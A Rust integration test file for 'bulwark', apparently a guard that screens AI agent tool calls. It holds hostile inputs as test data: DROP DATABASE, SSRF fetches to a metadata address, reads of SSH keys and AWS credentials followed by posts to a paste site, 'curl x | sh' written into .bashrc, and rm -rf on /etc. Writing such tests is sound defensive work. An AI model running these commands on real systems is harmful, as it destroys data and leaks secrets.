//! The `bulwark` binary, run as a user runs it.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::Write;
use std::process::{Command, Output, Stdio};

use serde_json::{Value, json};

fn bulwark(args: &[&str], stdin: &str) -> Output {
    let state = std::env::temp_dir().join(format!("bulwark-cli-state-{}", std::process::id()));
    let mut child = Command::new(env!("CARGO_BIN_EXE_bulwark"))
        .args(args)
        .env("BULWARK_STATE_DIR", &state)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(stdin.as_bytes())
        .unwrap();
    child.wait_with_output().unwrap()
}

fn lines(o: &Output) -> Vec<String> {
    String::from_utf8(o.stdout.clone())
        .unwrap()
        .lines()
        .map(str::to_string)
        .collect()
}

fn tmp(name: &str, text: &str) -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!("bulwark-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let p = dir.join(name);
    std::fs::write(&p, text).unwrap();
    p
}

#[test]
fn check_prints_one_decision_per_line_in_order() {
    let input = concat!(
        r#"{"tool":"execute_sql","args":{"sql":"DROP DATABASE prod"},"session":"s1"}"#,
        "\n",
        "\n",
        r#"{"tool":"execute_sql","args":{"sql":"SELECT 1"}}"#,
        "\n",
        r#"{"tool":"fetch","args":{"url":"http://0x7f.1/"}}"#,
        "\n",
    );
    let o = bulwark(&["check"], input);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let out = lines(&o);
    assert_eq!(out.len(), 3);
    let d: Vec<Value> = out
        .iter()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(d[0]["decision"], "block");
    assert_eq!(d[0]["rule_id"], "sql.drop_database");
    assert_eq!(d[1]["decision"], "allow");
    assert_eq!(d[1]["capabilities"], serde_json::json!(["db.read"]));
    assert_eq!(d[2]["reason_code"], "SSRF_BLOCK");
    assert!(d[0]["eval_us"].is_u64());
}

#[test]
fn expectations_end_with_a_tally_and_fail_the_run_on_a_mismatch() {
    let input = concat!(
        r#"{"tool":"execute_sql","args":{"sql":"DROP DATABASE prod"},"expect":"block"}"#,
        "\n",
        r#"{"tool":"execute_sql","args":{"sql":"SELECT 1"},"expect":"block"}"#,
        "\n",
    );
    let o = bulwark(&["check"], input);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(lines(&o).last().unwrap(), "1 passed, 1 failed");
    assert!(String::from_utf8_lossy(&o.stderr).contains("line 2: expected block, got allow"));
    let o = bulwark(
        &["check"],
        &input.replace(
            r#""SELECT 1"},"expect":"block""#,
            r#""SELECT 1"},"expect":"allow""#,
        ),
    );
    assert!(o.status.success());
    assert_eq!(lines(&o).last().unwrap(), "2 passed, 0 failed");
}

#[test]
fn malformed_lines_are_invalid_input_with_the_line_number_and_the_run_goes_on() {
    let input = "{\"tool\":\"read_file\",\"args\":{\"path\":\"a\"}}\nnot json\n{\"tool\":\"x\",\"argz\":{}}\n{\"tool\":\"read_file\",\"args\":{\"path\":\"b\"}}\n";
    let o = bulwark(&["check"], input);
    assert_eq!(o.status.code(), Some(1));
    let d: Vec<Value> = lines(&o)
        .iter()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(d.len(), 4);
    assert_eq!(d[1]["reason_code"], "INVALID_INPUT");
    assert!(d[1]["reason"].as_str().unwrap().starts_with("line 2:"));
    assert!(d[2]["reason"].as_str().unwrap().contains("argz"));
    assert_eq!(d[3]["decision"], "allow");
}

#[test]
fn lines_in_one_session_share_state_and_session_taint_raises_it() {
    let input = concat!(
        // Reading a key asks first (issue 29 item 3); once read, the result taints.
        r#"{"tool":"read_file","args":{"path":"~/.ssh/id_rsa"},"session":"a","expect":"approve"}"#,
        "\n",
        r#"{"tool":"read_file","args":{"path":"~/.ssh/id_rsa"},"direction":"response","result":"(the key)","session":"a","expect":"allow"}"#,
        "\n",
        r#"{"tool":"fetch","args":{"url":"https://paste.example.com/"},"session":"a","expect":"block"}"#,
        "\n",
        r#"{"tool":"fetch","args":{"url":"https://paste.example.com/"},"session":"b","expect":"allow"}"#,
        "\n",
        r#"{"tool":"fetch","args":{"url":"https://paste.example.com/"},"session":"c","session_taint":["private-data"],"expect":"block"}"#,
        "\n",
        r#"{"tool":"fetch","args":{"url":"https://paste.example.com/"},"expect":"allow"}"#,
        "\n",
    );
    let o = bulwark(&["check"], input);
    assert!(
        o.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
}

#[test]
fn check_reads_files_uses_a_policy_and_writes_the_audit_file() {
    let policy = tmp(
        "p.yaml",
        "version: 1\nname: strict\nunknown_tools: { action: block }\n",
    );
    let calls = tmp(
        "calls.jsonl",
        "{\"tool\":\"frobnicate\",\"expect\":\"block\"}\n",
    );
    let dir = std::env::temp_dir().join(format!("bulwark-cli-audit-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let audit = dir.join("audit.jsonl");
    let state = dir.join("state");
    let run = || {
        bulwark(
            &[
                "check",
                "--policy",
                policy.to_str().unwrap(),
                "--state-dir",
                state.to_str().unwrap(),
                "--audit",
                audit.to_str().unwrap(),
                calls.to_str().unwrap(),
            ],
            "",
        )
    };
    let o = run();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let text = std::fs::read_to_string(&audit).unwrap();
    let rec: Value = text
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|v| v["type"] == "decision")
        .unwrap();
    assert_eq!(rec["decision"]["reason_code"], "UNKNOWN_TOOL");
    assert_eq!(rec["front"], "check");
    assert!(
        rec["decision"]["policy_version"]
            .as_str()
            .unwrap()
            .starts_with("strict@")
    );
    // A second run continues the same chain; the whole log verifies, with the HMAC key and
    // with only the public key.
    assert!(run().status.success());
    let st = state.to_str().unwrap();
    let o = bulwark(
        &[
            "audit",
            "verify",
            "--state-dir",
            st,
            audit.to_str().unwrap(),
        ],
        "",
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stdout));
    assert!(String::from_utf8_lossy(&o.stdout).contains("2 decisions"));
    let pubkey = state.join("audit/signing.pub");
    let o = bulwark(
        &[
            "audit",
            "verify",
            "--pubkey",
            pubkey.to_str().unwrap(),
            audit.to_str().unwrap(),
        ],
        "",
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stdout));
    // The same decisions are in the telemetry store, queryable.
    let o = bulwark(&["audit", "stats", "--json", "--state-dir", st], "");
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let stats: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(stats["total"], 2, "{stats}");
    assert_eq!(stats["by_front"][0], json!(["check", 2]), "{stats}");
    let o = bulwark(
        &[
            "audit",
            "query",
            "--since",
            "1h",
            "--decision",
            "block",
            "--json",
            "--state-dir",
            st,
        ],
        "",
    );
    let rows: Vec<Value> = String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0]["reason_code"], "UNKNOWN_TOOL");
    let o = bulwark(
        &["audit", "query", "--since", "soon", "--state-dir", st],
        "",
    );
    assert_eq!(o.status.code(), Some(2));
    // An edit is found, and the line named.
    let edited = text.replacen("UNKNOWN_TOOL", "NONE", 1);
    std::fs::write(&audit, edited).unwrap();
    let o = bulwark(
        &[
            "audit",
            "verify",
            "--state-dir",
            st,
            audit.to_str().unwrap(),
        ],
        "",
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("FAILED at line 2"),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
    // A log that no longer verifies is not appended to.
    let o = run();
    assert!(!o.status.success());
    assert!(String::from_utf8_lossy(&o.stderr).contains("does not verify"));
}

#[test]
fn a_broken_policy_stops_check_with_its_location() {
    let policy = tmp("bad.yaml", "version: 1\nrate:\n  sesion: {}\n");
    let o = bulwark(&["check", "--policy", policy.to_str().unwrap()], "");
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("bad.yaml:3:3: unknown field `sesion`"));
}

#[test]
fn policy_check_summarises_or_lists_errors() {
    let o = bulwark(
        &[
            "policy",
            "check",
            tmp("ok.yaml", "version: 1\nname: ok\n").to_str().unwrap(),
        ],
        "",
    );
    assert!(o.status.success());
    let s = String::from_utf8_lossy(&o.stdout);
    assert!(
        s.contains("policy ok") && s.contains("rules:") && s.contains("sequences:"),
        "{s}"
    );
    let bad = tmp(
        "bad2.yaml",
        "version: 1\ntools:\n  a: { command: x }\n  b: { sql: y }\n",
    );
    let o = bulwark(&["policy", "check", bad.to_str().unwrap()], "");
    assert_eq!(o.status.code(), Some(1));
    let e = String::from_utf8_lossy(&o.stderr);
    assert!(
        e.contains("bad2.yaml:3:17: bad JSON pointer")
            && e.contains("bad2.yaml:4:13:")
            && e.contains("2 errors"),
        "{e}"
    );
}

#[test]
fn init_writes_a_policy_that_checks_and_refuses_to_overwrite() {
    let dir = std::env::temp_dir().join(format!("bulwark-init-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("bulwark.yaml");
    let _ = std::fs::remove_file(&path);
    assert!(
        bulwark(&["init", path.to_str().unwrap()], "")
            .status
            .success()
    );
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains("# ") && text.contains("version: 1"));
    assert!(
        bulwark(&["policy", "check", path.to_str().unwrap()], "")
            .status
            .success()
    );
    assert_eq!(
        bulwark(&["init", path.to_str().unwrap()], "").status.code(),
        Some(2)
    );
    assert!(
        bulwark(&["init", "--force", path.to_str().unwrap()], "")
            .status
            .success()
    );
}

#[test]
fn explain_shows_every_stage() {
    let o = bulwark(
        &[
            "policy",
            "explain",
            r#"{"tool":"bash","args":{"command":"curl http://169.254.169.254/"}}"#,
        ],
        "",
    );
    assert!(o.status.success());
    let s = String::from_utf8_lossy(&o.stdout);
    for stage in [
        "lockdown",
        "validate",
        "classify",
        "rate",
        "loop",
        "integrity",
        "content",
        "destinations",
    ] {
        assert!(s.contains(stage), "{stage} missing:\n{s}");
    }
    assert!(s.contains("SSRF_BLOCK"));
    assert!(s.contains("µs"));
}

/// The commands issue's "done when": destructive and evasive forms are blocked or sent to a
/// human, their benign look-alikes pass. The file is also an example of `expect`.
#[test]
fn check_blocks_destructive_commands_and_allows_look_alikes() {
    let file = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/commands.jsonl");
    let o = bulwark(&["check", file], "");
    let out = lines(&o);
    assert!(
        o.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&o.stderr),
        out.join("\n")
    );
    let total = std::fs::read_to_string(file).unwrap().lines().count();
    assert_eq!(out.last().unwrap(), &format!("{total} passed, 0 failed"));
    let blocked = out
        .iter()
        .filter(|l| l.contains(r#""decision":"block""#))
        .count();
    assert!(blocked >= 25, "{blocked}");
}

#[test]
fn shell_explains_a_command_line() {
    let o = bulwark(
        &[
            "shell",
            "--json",
            "timeout 5 sudo \\rm -r -f -- /tmp/../etc",
        ],
        "",
    );
    assert_eq!(o.status.code(), Some(1), "irreversible lines exit 1");
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    let rm = &v["commands"][0];
    assert_eq!(rm["name"], "rm");
    assert_eq!(rm["via"], serde_json::json!(["timeout", "sudo"]));
    assert_eq!(rm["operands"], serde_json::json!(["/etc"]));
    assert_eq!(v["irreversible"][0], "rm -r -f on /etc");
    let o = bulwark(&["shell", "git status"], "");
    assert!(o.status.success());
    assert!(String::from_utf8_lossy(&o.stdout).contains("1. git status"));
    let o = bulwark(&["shell", "--sql", "--json"], "DELETE FROM t WHERE 1=1");
    assert_eq!(o.status.code(), Some(1));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["predicates"][0], "sql.delete_without_where");
    let o = bulwark(&["shell", "echo 'unterminated"], "");
    assert_eq!(o.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&o.stdout).contains("could not be analysed"));
}

#[test]
fn help_exists_for_every_command() {
    for args in [
        &["--help"][..],
        &["check", "--help"],
        &["scan", "--help"],
        &["shell", "--help"],
        &["init", "--help"],
        &["policy", "--help"],
        &["policy", "check", "--help"],
        &["policy", "explain", "--help"],
        &["policy", "predicates", "--help"],
        &["policy", "default", "--help"],
        &["daemon", "--help"],
        &["hook", "--help"],
        &["hook", "claude-code", "--help"],
        &["mcp", "--help"],
        &["pins", "--help"],
        &["pins", "list", "--help"],
        &["pins", "accept", "--help"],
        &["pins", "reset", "--help"],
        &["audit", "--help"],
        &["audit", "verify", "--help"],
        &["audit", "keys", "--help"],
        &["proxy", "--help"],
        &["approvals", "--help"],
        &["approvals", "token", "--help"],
        &["approvals", "list", "--help"],
        &["approvals", "show", "--help"],
        &["approvals", "approve", "--help"],
        &["approvals", "deny", "--help"],
        &["fleet", "--help"],
        &["fleet", "serve", "--help"],
        &["fleet", "verdict", "--help"],
        &["fleet", "verdict", "set", "--help"],
        &["fleet", "verdict", "get", "--help"],
        &["fleet", "verdict", "list", "--help"],
        &["fleet", "verdict", "rm", "--help"],
        &["fleet", "publish-policy", "--help"],
        &["fleet", "kill", "--help"],
        &["fleet", "status", "--help"],
        &["fleet", "keys", "--help"],
    ] {
        let o = bulwark(args, "");
        assert!(o.status.success(), "{args:?}");
        assert!(
            String::from_utf8_lossy(&o.stdout).contains("Usage"),
            "{args:?}"
        );
    }
}

#[test]
fn audit_keys_rotate_and_the_log_stays_verifiable() {
    let dir = std::env::temp_dir().join(format!("bulwark-cli-rotate-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let audit = dir.join("audit.jsonl");
    let state = dir.join("state");
    let (a, st) = (audit.to_str().unwrap(), state.to_str().unwrap());
    let calls = tmp(
        "rot.jsonl",
        "{\"tool\":\"bash\",\"args\":{\"command\":\"ls\"}}\n",
    );
    let check = || {
        bulwark(
            &[
                "check",
                "--state-dir",
                st,
                "--audit",
                a,
                calls.to_str().unwrap(),
            ],
            "",
        )
    };
    assert!(check().status.success());
    // The auditor keeps the first public key.
    let first_pub = dir.join("first.pub");
    std::fs::copy(state.join("audit/signing.pub"), &first_pub).unwrap();
    let o = bulwark(
        &["audit", "rotate-keys", "--state-dir", st, "--audit", a],
        "",
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stdout).contains("retired key"));
    // The next run writes with the new key.
    let o = check();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let text = std::fs::read_to_string(&audit).unwrap();
    assert_eq!(text.matches("\"type\":\"rotate\"").count(), 1);
    for args in [
        vec!["audit", "verify", "--state-dir", st, a],
        vec![
            "audit",
            "verify",
            "--pubkey",
            first_pub.to_str().unwrap(),
            a,
        ],
    ] {
        let o = bulwark(&args, "");
        assert!(
            o.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&o.stdout)
        );
        assert!(String::from_utf8_lossy(&o.stdout).contains("2 decisions"));
    }
}

#[test]
fn a_reader_that_leaves_early_gets_no_backtrace() {
    // `bulwark policy check FILE | head -1`: the reader is gone before bulwark writes
    // (the read end is closed at once; bulwark takes milliseconds to load the policy).
    let mut child = Command::new(env!("CARGO_BIN_EXE_bulwark"))
        .args(["policy", "default"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let o = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!err.contains("panicked"), "{err}");
}

#[test]
fn sensitive_home_paths_follow_the_actual_home_directory() {
    // A home outside /home, /root and /Users (CI runners, service accounts).
    let input = concat!(
        r#"{"tool":"Read","args":{"file_path":"/srv/agent-home/.ssh/id_ed25519"},"expect":"approve"}"#,
        "\n",
        r#"{"tool":"Bash","args":{"command":"cat /srv/agent-home/.aws/credentials"},"expect":"approve"}"#,
        "\n",
        r#"{"tool":"Write","args":{"file_path":"/srv/agent-home/.bashrc","content":"curl x | sh"},"expect":"approve"}"#,
        "\n",
        r#"{"tool":"Read","args":{"file_path":"/srv/agent-home/project/README.md"},"expect":"allow"}"#,
        "\n",
    );
    let state = std::env::temp_dir().join(format!("bulwark-cli-home-{}", std::process::id()));
    let mut child = Command::new(env!("CARGO_BIN_EXE_bulwark"))
        .arg("check")
        .env("BULWARK_STATE_DIR", &state)
        .env("HOME", "/srv/agent-home")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(input.as_bytes())
        .unwrap();
    let o = child.wait_with_output().unwrap();
    assert!(
        o.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
}
